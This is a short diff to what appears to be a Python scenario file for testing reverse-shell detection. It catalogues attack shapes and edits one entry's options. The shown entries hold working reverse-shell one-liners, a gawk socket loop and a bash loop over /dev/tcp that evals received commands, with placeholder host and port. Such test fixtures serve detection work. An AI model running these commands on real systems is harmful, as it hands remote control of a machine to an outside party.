@@ -5,7 +5,7 @@ A: one process connects and becomes the shell. B: it connects, and a descendant 
 shell is there first, and its parent connects and relays. D: shell and network tool are siblings in
 a pipeline. E: a loop that connects and runs each command in a child."""
 
-from scenarios import AT_A_TERMINAL, Attack, PACED
+from scenarios import AT_A_TERMINAL, Attack
 
 PROGRAM = {"shell": False}
 
@@ -222,8 +222,7 @@ ATTACKS = [
            "{if(c==\"exit\")break;while((c|&getline l)>0)print l|&s;close(c)}}'", needs=("gawk",)),
     Attack("bash_loop_cron", "E", "shell", "cron", "tcp",
            "bash -c 'exec 4<>/dev/tcp/@H@/@P@; while read -r c <&4; do [ \"$c\" = exit ] && break; "
-           "eval \"$c\" >&4 2>&1; done'", live=True,
-           unseen=PACED),
+           "eval \"$c\" >&4 2>&1; done'", live=True),
     Attack("tcl_loop_ssh", "E", "tcl", "ssh", "tcp", "tclsh @D@/t", needs=("tclsh",),
            files={"t": TCL_LOOP},
            unseen=AT_A_TERMINAL),
